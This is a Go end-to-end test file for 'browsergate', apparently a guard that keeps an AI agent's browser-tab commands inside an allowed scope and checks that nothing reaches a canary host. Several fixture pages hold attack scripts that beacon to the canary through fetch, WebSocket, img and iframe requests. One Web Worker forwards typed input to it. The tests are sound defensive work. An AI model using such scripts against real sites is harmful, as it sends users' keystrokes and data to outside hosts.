package main

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/remote"

	"github.com/browsergate/browsergate/evidence"
	"github.com/browsergate/browsergate/internal/testkit"
)

// listedTab is one tab of list_tabs' structured content.
type listedTab struct {
	Tab, URL, Title, Owner, Context string
	Active                          bool
}

// tabs calls list_tabs and returns its structured tabs and hidden count.
func (f *fixture) tabs(t testing.TB, tool string) ([]listedTab, int) {
	t.Helper()
	res := f.callResult(t, tool+".list_tabs", nil)
	if res.IsError {
		t.Fatalf("list_tabs refused:\n%s", resultText(res))
	}
	var st struct {
		Tabs   []listedTab `json:"tabs"`
		Hidden int         `json:"hidden_tabs"`
	}
	raw, _ := json.Marshal(res.StructuredContent)
	if err := json.Unmarshal(raw, &st); err != nil {
		t.Fatalf("list_tabs structured content %s: %v", raw, err)
	}
	return st.Tabs, st.Hidden
}

// tabID finds the id of the listed tab of owner whose URL contains part.
func (f *fixture) tabID(t testing.TB, tool, owner, part string) string {
	t.Helper()
	tabs, _ := f.tabs(t, tool)
	for _, tb := range tabs {
		if tb.Owner == owner && strings.Contains(tb.URL, part) {
			return tb.Tab
		}
	}
	t.Fatalf("list_tabs shows no %s tab at *%s*: %+v", owner, part, tabs)
	return ""
}

// TestLiveTabsInTheUsersBrowser is a live session end to end: a user's
// Chromium with a DevTools port, signed in to a local app with an
// HttpOnly cookie, with another site open outside the scope. The agent
// lists the tabs (in-scope ones only), adopts the user's tab, sees the
// signed-in page, navigates within the scope with the session kept, opens
// and closes a tab, is refused the canary by navigate, click and new_tab;
// a page in the adopted tab attacks the canary, which sees nothing. After
// the session the user's tabs are still open, load pages, and are no
// longer held to the session's scope.
func TestLiveTabsInTheUsersBrowser(t *testing.T) {
	t.Parallel()
	port, _ := startChromium(t)
	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
	f := start(t, "live", endpoint)
	alloc, cancelAlloc := remote.NewAllocator(context.Background(), endpoint)
	defer cancelAlloc()
	user, cancelUser := chromedp.NewContext(alloc)
	defer cancelUser()
	for _, step := range []chromedp.Action[chromedp.Void]{
		chromedp.Navigate(f.siteURL + "/login"),
		chromedp.SendKeys(`input[name="username"]`, "alice"),
		chromedp.SendKeys(`input[name="password"]`, "s3cret"),
		chromedp.Submit(`input[name="password"]`),
		chromedp.WaitVisible(`h1`),
	} {
		if err := chromedp.Do(user, step); err != nil {
			t.Fatalf("the user's sign-in: %v", err)
		}
	}
	elsewhere, elog := serveLoggedOn(t, "127.0.0.4:0", map[string]string{"/private": `<title>Private mail</title>secret`})
	other, cancelOther := chromedp.NewContext(user)
	defer cancelOther()
	if err := chromedp.Do(other, chromedp.Navigate(elsewhere+"/private")); err != nil {
		t.Fatalf("the user's other tab: %v", err)
	}
	// In-scope pages of the session's own, on the allowed site.
	ws := "ws" + strings.TrimPrefix(f.canaryTo, "http")
	site, _ := serveLogged(t, map[string]string{
		"/links":  fmt.Sprintf(`<title>links</title><a id=c href="%s/tabs-link">canary</a>`, f.canaryTo),
		"/attack": fmt.Sprintf(`<title>attack</title><img src="%[1]s/tabs-img"><iframe src="%[1]s/tabs-iframe"></iframe><p id=s>start</p><script>fetch("%[1]s/tabs-fetch",{mode:"no-cors"}).catch(()=>{});try{new WebSocket("%[2]s/ws/tabs-ws")}catch(e){};setTimeout(()=>{document.getElementById("s").textContent="done"},800)</script>`, f.canaryTo, ws),
	})

	// The listing: the session's tab and the user's in-scope tab, the
	// other only counted.
	tabs, hidden := f.tabs(t, "e2e")
	text, _ := f.call(t, "e2e.list_tabs", nil)
	t.Logf("list_tabs:\n%s", text)
	if strings.Contains(text, "Private") || strings.Contains(text, "127.0.0.4") || hidden < 1 {
		t.Errorf("list_tabs names the user's tab outside the scope, or does not count it (hidden %d):\n%s", hidden, text)
	}
	dashboard := f.tabID(t, "e2e", "user", "/dashboard")
	ids := map[string]bool{}
	for _, tb := range tabs {
		ids[tb.Tab] = true
	}
	if len(ids) != len(tabs) {
		t.Errorf("tab ids repeat: %+v", tabs)
	}

	// Adopt the user's signed-in tab.
	out := f.mustAllow(t, "e2e.switch_tab", map[string]any{"tab": dashboard})
	t.Logf("switch_tab %s:\n%s", dashboard, out)
	if !strings.Contains(out, "the user's tab") {
		t.Errorf("switch_tab does not say it adopted the user's tab:\n%s", out)
	}
	snap := f.mustAllow(t, "e2e.snapshot", nil)
	t.Logf("snapshot:\n%s", snap)
	if !strings.Contains(snap, "Welcome, alice!") {
		t.Fatalf("the adopted tab does not show the signed-in page:\n%s", snap)
	}
	if again := f.tabID(t, "e2e", "user", "/dashboard"); again != dashboard {
		t.Errorf("the adopted tab's id changed: %s, then %s", dashboard, again)
	}
	// Within the scope, still signed in.
	if out := f.mustAllow(t, "e2e.navigate", map[string]any{"url": f.siteURL + "/dashboard?again"}); !strings.Contains(out, `title="Dashboard"`) {
		t.Errorf("navigating the adopted tab lost the sign-in:\n%s", out)
	}
	// The canary, by every command.
	if text, refused := f.call(t, "e2e.navigate", map[string]any{"url": f.canaryTo + "/tabs-navigate"}); !refused {
		t.Errorf("navigate to the canary was allowed:\n%s", text)
	}
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/links"})
	if text, refused := f.call(t, "e2e.click", map[string]any{"selector": "#c"}); !refused {
		t.Errorf("a click to the canary was allowed:\n%s", text)
	}
	text, refused := f.call(t, "e2e.new_tab", map[string]any{"url": f.canaryTo + "/tabs-new"})
	t.Logf("new_tab canary:\n%s", text)
	if !refused || !strings.Contains(text, "DENIED at scope") {
		t.Errorf("new_tab at the canary was not refused at scope:\n%s", text)
	}
	// A page in the adopted tab attacks the canary.
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/attack"})
	f.mustAllow(t, "e2e.wait_for", map[string]any{"text": "done", "timeout_ms": 5000})
	// The user's own tab is not the session's to close.
	if text, refused := f.call(t, "e2e.close_tab", map[string]any{"tab": dashboard}); !refused || !strings.Contains(text, "allow_user_tabs") {
		t.Errorf("close_tab on the user's tab was not refused for allow_user_tabs:\n%s", text)
	}
	// A tab of the session's own: opened signed in, listed, closed.
	out = f.mustAllow(t, "e2e.new_tab", map[string]any{"url": f.siteURL + "/dashboard?newtab"})
	if snap := f.mustAllow(t, "e2e.snapshot", nil); !strings.Contains(snap, "Welcome, alice!") {
		t.Errorf("the new tab is not signed in:\n%s", snap)
	}
	opened := f.tabID(t, "e2e", "session", "/dashboard?newtab")
	if !strings.Contains(out, opened) {
		t.Errorf("new_tab's reply does not name the tab %s:\n%s", opened, out)
	}
	f.mustAllow(t, "e2e.close_tab", map[string]any{"tab": opened})
	tabs, _ = f.tabs(t, "e2e")
	if slices.ContainsFunc(tabs, func(tb listedTab) bool { return tb.Tab == opened }) {
		t.Errorf("the closed tab is still listed: %+v", tabs)
	}
	// Settle, then the canary must have seen nothing at all.
	time.Sleep(time.Second)
	if seen := f.net.Seen(); len(seen) != 0 || f.net.Upgrades() != 0 {
		t.Errorf("the canary saw %s", f.net)
	}

	// The session ends: the user's tabs stay, load pages, and are free of
	// the session's scope.
	f.cs.Close()
	pages := func() []string {
		infos, err := chromedp.Targets(user)
		if err != nil {
			t.Fatal(err)
		}
		var urls []string
		for _, ti := range infos {
			if ti.Type == "page" {
				urls = append(urls, ti.URL)
			}
		}
		return urls
	}
	testkit.Eventually(t, func() string {
		if got := pages(); slices.ContainsFunc(got, func(u string) bool { return strings.Contains(u, "newtab") }) {
			return fmt.Sprintf("after the session the tab it opened is still there: %q", got)
		}
		return ""
	})
	got := pages()
	if !slices.ContainsFunc(got, func(u string) bool { return strings.HasPrefix(u, site+"/attack") }) ||
		!slices.Contains(got, elsewhere+"/private") {
		t.Errorf("the user's tabs are not all there after the session: %q", got)
	}
	ctx, cancel := context.WithTimeout(user, 20*time.Second)
	defer cancel()
	before := elog.count("/private")
	if err := chromedp.Do(ctx, chromedp.Navigate(elsewhere+"/private?after")); err != nil {
		t.Fatalf("the adopted tab does not load a page after the session: %v", err)
	}
	if elog.count("/private") != before+1 {
		t.Errorf("the adopted tab is still held to the session's scope after it ended")
	}
}

// TestTabsInLaunchMode: the tab commands in a browser browsergate
// launched (every tab the session's): new_tab opens a guarded, listed tab
// and refuses one outside the scope; switch_tab goes back; close_tab
// closes the new tab but not the session's first; the evidence names the
// tab each call acted in.
func TestTabsInLaunchMode(t *testing.T) {
	t.Parallel()
	f := start(t, "launch", "")
	site, _ := serveLogged(t, map[string]string{
		"/a": `<title>A</title>a`,
		"/b": fmt.Sprintf(`<title>B</title><p id=s>b</p><script>fetch("%s/tabs-launch-fetch",{mode:"no-cors"}).catch(()=>{});setTimeout(()=>{document.getElementById("s").textContent="done"},300)</script>`, f.canaryTo),
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/a"})
	if text, refused := f.call(t, "e2e.new_tab", map[string]any{"url": f.canaryTo + "/tabs-launch-new"}); !refused || !strings.Contains(text, "DENIED at scope") {
		t.Errorf("new_tab at the canary was not refused at scope:\n%s", text)
	}
	f.mustAllow(t, "e2e.new_tab", map[string]any{"url": site + "/b"})
	f.mustAllow(t, "e2e.wait_for", map[string]any{"text": "done", "timeout_ms": 5000})
	tabs, hidden := f.tabs(t, "e2e")
	if len(tabs) != 2 || hidden != 0 {
		t.Fatalf("list_tabs = %+v (hidden %d), want the two tabs of the session", tabs, hidden)
	}
	first, second := f.tabID(t, "e2e", "session", "/a"), f.tabID(t, "e2e", "session", "/b")
	for _, tb := range tabs {
		if tb.Active != (tb.Tab == second) {
			t.Errorf("the new tab should be the current one: %+v", tabs)
		}
	}
	if out := f.mustAllow(t, "e2e.switch_tab", map[string]any{"tab": first}); !strings.Contains(out, `title="A"`) {
		t.Errorf("after switch_tab the state is not tab A's:\n%s", out)
	}
	if text, refused := f.call(t, "e2e.close_tab", map[string]any{"tab": first}); !refused || !strings.Contains(text, "first tab") {
		t.Errorf("close_tab on the session's first tab was not refused:\n%s", text)
	}
	f.mustAllow(t, "e2e.switch_tab", map[string]any{"tab": second})
	if out := f.mustAllow(t, "e2e.close_tab", map[string]any{"tab": second}); !strings.Contains(out, `title="A"`) {
		t.Errorf("closing the current tab does not go back to the first:\n%s", out)
	}
	if tabs, _ := f.tabs(t, "e2e"); len(tabs) != 1 || tabs[0].Tab != first {
		t.Errorf("after close_tab the tabs are %+v", tabs)
	}
	if text, refused := f.call(t, "e2e.switch_tab", map[string]any{"tab": second}); !refused || !strings.Contains(text, "no tab "+second) {
		t.Errorf("switch_tab to a closed tab was not refused:\n%s", text)
	}
	if seen := f.net.Seen(); len(seen) != 0 {
		t.Errorf("the canary saw %s", f.net)
	}
	// The evidence names the tab of each call.
	f.cs.Close()
	envs := readEnvelopes(t, f.evidence)
	byCmd := map[string][]string{}
	for _, e := range envs {
		if e.Tab != nil {
			byCmd[e.Command] = append(byCmd[e.Command], e.Tab.ID+" "+e.Tab.Owner+" "+e.Tab.URL)
		}
	}
	if got := byCmd["close_tab"]; len(got) < 2 || !strings.HasPrefix(got[len(got)-1], second+" session "+site+"/b") {
		t.Errorf("the evidence of close_tab names the tabs %q, want the last in %s at %s/b", got, second, site)
	}
	if got := byCmd["wait_for"]; len(got) != 1 || !strings.HasPrefix(got[0], second+" session ") {
		t.Errorf("the evidence of wait_for names %q, want the new tab %s", got, second)
	}
}

// readEnvelopes is every call record in the evidence log at path, session
// by session.
func readEnvelopes(t *testing.T, path string) []*evidence.Envelope {
	t.Helper()
	var out []*evidence.Envelope
	lastRecordWhere(t, path, func(e *evidence.Envelope) bool {
		out = append(out, e)
		return false
	})
	return out
}

// TestTabThatClosesItself: the session's current tab (a popup it switched
// to) closes itself during a click; the daemon goes on (it does not
// crash), and the next call goes back to the session's first tab.
func TestTabThatClosesItself(t *testing.T) {
	t.Parallel()
	f := start(t, "launch", "")
	site, _ := serveLogged(t, map[string]string{
		"/opener": `<title>opener</title><a id=o href="/closer" target=_blank rel=opener>open</a>`,
		"/closer": `<title>closer</title><button id=c onclick="window.close()">close</button>`})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/opener"})
	f.mustAllow(t, "e2e.click", map[string]any{"selector": "#o"})
	f.mustAllow(t, "e2e.switch_tab", map[string]any{"tab": f.tabID(t, "e2e", "session", "/closer")})
	// The click finds its tab gone and goes back to the first tab.
	out := f.mustAllow(t, "e2e.click", map[string]any{"selector": "#c"})
	if !strings.Contains(out, "back on its first tab") || !strings.Contains(out, "/opener") {
		t.Errorf("the click does not say the session went back to its first tab:\n%s", out)
	}
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/b"})
	if tabs, _ := f.tabs(t, "e2e"); len(tabs) != 1 || !strings.HasSuffix(tabs[0].URL, "/b") {
		t.Errorf("the session's tabs after the close: %+v, want its first, at /b", tabs)
	}
}

// TestAdoptionThatFailsIsUndone: a user's tab whose adoption reload
// cannot replace the document (its URL answers 204, so the reload is
// aborted and the old document lives on, with a worker made before the
// guard) is let go: switch_tab is refused, the session stays on its own
// tab, a second switch_tab tries the adoption again rather than going
// in, and text typed afterwards never reaches the old document's worker
// (the canary sees nothing). The session is never left in the old
// document.
func TestAdoptionThatFailsIsUndone(t *testing.T) {
	t.Parallel()
	port, _ := startChromium(t)
	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
	f := start(t, "live", endpoint)
	page := fmt.Sprintf(`<title>P</title><input id=i>
<script>
const w = new Worker(URL.createObjectURL(new Blob(['onmessage=e=>fetch("%s/preguard-worker?"+e.data,{mode:"no-cors"}).catch(()=>{})'])));
document.getElementById('i').addEventListener('input', e => w.postMessage(e.target.value));
history.replaceState(null, '', '/nocontent');
</script>`, f.canaryTo)
	site, stop, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/p":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, page)
		case "/nocontent":
			w.WriteHeader(http.StatusNoContent)
		}
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	usersTab(t, endpoint, site+"/p")
	var p string
	testkit.Eventually(t, func() string {
		tabs, _ := f.tabs(t, "e2e")
		for _, tb := range tabs {
			if tb.Owner == "user" && strings.Contains(tb.URL, "/nocontent") {
				p = tb.Tab
				return ""
			}
		}
		return fmt.Sprintf("the user's tab is not listed: %+v", tabs)
	})
	for range 2 {
		out := f.mustRefuse(t, "e2e.switch_tab", map[string]any{"tab": p}, "let go")
		t.Logf("switch_tab:\n%s", out)
		if strings.Contains(out, `url="`+site) {
			t.Errorf("the session is in the user's tab after a failed adoption:\n%s", out)
		}
	}
	out, _ := f.call(t, "e2e.type_text", map[string]any{"selector": "#i", "text": "hello-from-agent"})
	t.Logf("type_text:\n%s", out)
	time.Sleep(time.Second)
	if len(f.net.Seen()) != 0 {
		t.Errorf("the old document's worker reached the canary: %s", f.net)
	}
}

// TestPopupsOfAnAdoptedTabStayTheUsers: of the pages a user's tab opened
// before the session adopted it, the one outside the scope (opened with
// noopener: a browsing-context group of its own) stays the user's: after
// switch_tab it is neither closed nor named. The one in scope, which can
// still script its opener, is of the tab's group and is taken with it
// (groups.go); nothing in it reaches the canary. Neither is taken for a
// tab of the session's own and left unguarded.
func TestPopupsOfAnAdoptedTabStayTheUsers(t *testing.T) {
	t.Parallel()
	port, _ := startChromium(t)
	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
	f := start(t, "live", endpoint)
	elsewhere, _ := serveLoggedOn(t, "127.0.0.4:0", map[string]string{"/private": `<title>Private mail</title>secret`})
	site, _ := serveLogged(t, map[string]string{
		"/b":    `<title>B</title><button id=o1 onclick="window.open('/c1','c1')">o1</button><button id=o2 onclick="window.open('` + elsewhere + `/private','c2','noopener')">o2</button>`,
		"/c1":   `<title>C1</title>c1`,
		"/leak": fmt.Sprintf(`<title>leak</title><p id=s>start</p><script>fetch("%s/unguarded-popup",{mode:"no-cors"}).catch(()=>{});setTimeout(()=>{document.getElementById("s").textContent="done"},800)</script>`, f.canaryTo),
	})
	alloc, cancelAlloc := remote.NewAllocator(context.Background(), endpoint)
	defer cancelAlloc()
	user, cancelUser := chromedp.NewContext(alloc)
	defer cancelUser()
	for _, a := range []chromedp.Action[chromedp.Void]{chromedp.Navigate(site + "/b"), chromedp.Click("#o1"), chromedp.Click("#o2")} {
		if err := chromedp.Do(user, a); err != nil {
			t.Fatal(err)
		}
	}
	testkit.Eventually(t, func() string {
		if text, _ := f.call(t, "e2e.list_tabs", nil); !strings.Contains(text, "/c1") {
			return "the user's popup is not listed yet:\n" + text
		}
		return ""
	})
	c1 := f.tabID(t, "e2e", "user", "/c1")
	out := f.mustAllow(t, "e2e.switch_tab", map[string]any{"tab": f.tabID(t, "e2e", "user", "/b")})
	if strings.Contains(out, "127.0.0.4") || strings.Contains(out, "closed") {
		t.Errorf("switch_tab closed or named the user's other page:\n%s", out)
	}
	if !strings.Contains(out, c1+", of its browsing-context group") {
		t.Errorf("switch_tab did not take the popup of the tab's group (%s) with it:\n%s", c1, out)
	}
	f.mustAllow(t, "e2e.switch_tab", map[string]any{"tab": c1})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/leak"})
	f.call(t, "e2e.wait_for", map[string]any{"text": "done", "timeout_ms": 5000})
	time.Sleep(time.Second)
	if len(f.net.Seen()) != 0 {
		t.Errorf("the canary saw %s", f.net)
	}
	infos, err := chromedp.Targets(user)
	if err != nil {
		t.Fatal(err)
	}
	var private bool
	for _, ti := range infos {
		private = private || strings.Contains(ti.URL, "/private")
	}
	if !private {
		t.Errorf("the user's out-of-scope page was closed")
	}
}

// TestSecretInAUsersTabIsNotLeftBehind: a secret the agent typed into a
// user's tab it adopted is not left in the tab when the session ends: the
// tab is emptied (about:blank) while still guarded, so no page of the
// user's, no longer held by the secret's domains, can read the value.
func TestSecretInAUsersTabIsNotLeftBehind(t *testing.T) {
	t.Parallel()
	port, _ := startChromium(t)
	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
	f := startWith(t, fmt.Sprintf(e2eManifest, "live", fmt.Sprintf("live_endpoint = %q", endpoint))+`[secrets.APP_PASSWORD]
env = "BROWSERGATE_E2E_SECRET"
domains = ["127.0.0.1"]
fields = "text"
`)
	site, _ := serveLogged(t, map[string]string{"/form": `<title>form</title><input id=i aria-label=Password>`})
	user := usersTab(t, endpoint, site+"/form")
	f.mustAllow(t, "e2e.switch_tab", map[string]any{"tab": f.tabID(t, "e2e", "user", "/form")})
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#i", "text": "<APP_PASSWORD>"})
	f.cs.Close()
	testkit.Eventually(t, func() string {
		u, err := chromedp.Run(user, chromedp.Location())
		if err != nil {
			return err.Error()
		}
		if u != "about:blank" {
			return "the user's tab is still at " + u + " after the session ended"
		}
		return ""
	})
}

// usersTab opens a tab of the user's own in the live browser at endpoint,
// as the user would (over CDP, not through browsergate), at url; it
// closes with the test.
func usersTab(t *testing.T, endpoint, url string) context.Context {
	t.Helper()
	alloc, cancelAlloc := remote.NewAllocator(context.Background(), endpoint)
	t.Cleanup(cancelAlloc)
	user, cancelUser := chromedp.NewContext(alloc)
	t.Cleanup(cancelUser)
	if err := chromedp.Do(user, chromedp.Navigate(url)); err != nil {
		t.Fatal(err)
	}
	return user
}
